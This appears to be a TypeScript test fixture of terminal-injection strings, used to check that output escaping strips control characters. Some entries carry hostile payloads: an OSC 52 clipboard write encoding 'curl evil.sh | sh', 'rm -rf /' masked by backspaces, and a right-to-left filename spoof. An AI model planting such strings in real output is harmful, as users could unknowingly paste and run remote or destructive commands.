/** Hostile strings a repository or a server can hold, each with what a terminal would do with it. */
export const HOSTILE_TEXT: Array<{ name: string; text: string }> = [
  { name: 'OSC 52 clipboard write ended by BEL', text: '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007' },
  { name: 'OSC 0 window title ended by ST', text: '\u001b]0;pwned\u001b\\' },
  { name: 'OSC 8 hyperlink', text: '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007' },
  { name: 'CSI clear screen and cursor home', text: '\u001b[2J\u001b[H' },
  { name: 'CSI conceal (SGR 8)', text: '\u001b[8mhidden' },
  { name: 'SGR colour the palette also uses', text: '\u001b[31mred' },
  { name: 'C1 CSI (U+009B)', text: '\u009b2J' },
  { name: 'C1 OSC (U+009D)', text: '\u009d0;title\u009c' },
  { name: 'BEL', text: 'ring\u0007' },
  { name: 'backspace overprint', text: 'rm -rf /\u0008\u0008\u0008\u0008\u0008\u0008\u0008\u0008ls     ' },
  { name: 'carriage return overprint', text: 'evil\rgood' },
  { name: 'NUL and DEL', text: 'a\u0000b\u007f' },
  { name: 'right-to-left override (U+202E)', text: 'txt.\u202eexe' },
  { name: 'bidi isolate (U+2066..U+2069)', text: '\u2066admin\u2069' },
  { name: 'line separator (U+2028)', text: 'one\u2028two' },
];

/**
 * The control characters left raw in `text` (tab and newline aside), written out so a failure shows them.
 * Independent of the escaping code on purpose: it lists C0, DEL, C1 and the bidi and separator characters.
 */
export function rawControls(text: string): string[] {
  const found = text.match(
    /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/g,
  );
  return [...new Set(found ?? [])].map((char) => `U+${char.charCodeAt(0).toString(16).padStart(4, '0')}`);
}
